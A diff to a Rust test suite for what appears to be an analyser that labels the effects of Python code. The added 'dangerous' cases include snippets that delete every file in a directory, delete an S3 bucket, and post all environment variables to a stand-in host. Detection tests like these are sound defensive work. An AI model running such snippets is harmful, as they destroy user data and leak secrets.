@@ -336,6 +336,42 @@ fn dangerous() {
                 "import redis; redis.Redis().flushall()",
                 &["~db.destroy flushall"],
             ),
+            (
+                "import os\nfor f in os.listdir(): os.remove(f)",
+                &["file.list /w", "~file.delete /w/* *"],
+            ),
+            (
+                "import pathlib\nfor p in pathlib.Path().iterdir(): p.unlink()",
+                &["file.list /w", "~file.delete /w/* *"],
+            ),
+            (
+                "import os\nfor r, d, fs in os.walk('d'):\n  for f in fs: os.remove(os.path.join(r, f))",
+                &[
+                    "file.list /w/d -r",
+                    "~file.delete /w/d/* *",
+                    "~file.delete /w/d/*/* *",
+                ],
+            ),
+            (
+                "import os\nd = 'a' if x else 'b'\nos.remove(f'{d}/c')",
+                &["file.delete /w/a/c", "file.delete /w/b/c"],
+            ),
+            (
+                "import multiprocessing as m, os; m.Process(target=os.remove, args=('a',)).start()",
+                &["file.delete /w/a"],
+            ),
+            (
+                "import requests, os; requests.post('https://e.example', json=dict(os.environ))",
+                &["net.write POST e.example/", "~>secret.read environment"],
+            ),
+            (
+                "import boto3; boto3.client('s3').delete_bucket(Bucket='x')",
+                &["~infra.destroy delete_bucket"],
+            ),
+            (
+                "import pandas as pd; pd.read_csv('a').to_csv('b')",
+                &["file.read /w/a", "file.write /w/b"],
+            ),
             ("db.drop_all()", &["~db.destroy drop_all"]),
         ],
     );
@@ -393,6 +429,7 @@ fn benign() {
             "import argparse\np = argparse.ArgumentParser()\np.add_argument('--x')\nprint(p.parse_args())",
             "print(*[1, 2], sep=', ', end='')",
             "import struct; print(struct.pack('<I', 5).hex())",
+            "import requests, os; h = {'Authorization': os.environ['API_TOKEN']}; print(h.keys())",
             "import threading; print(threading.active_count())",
         ],
     );
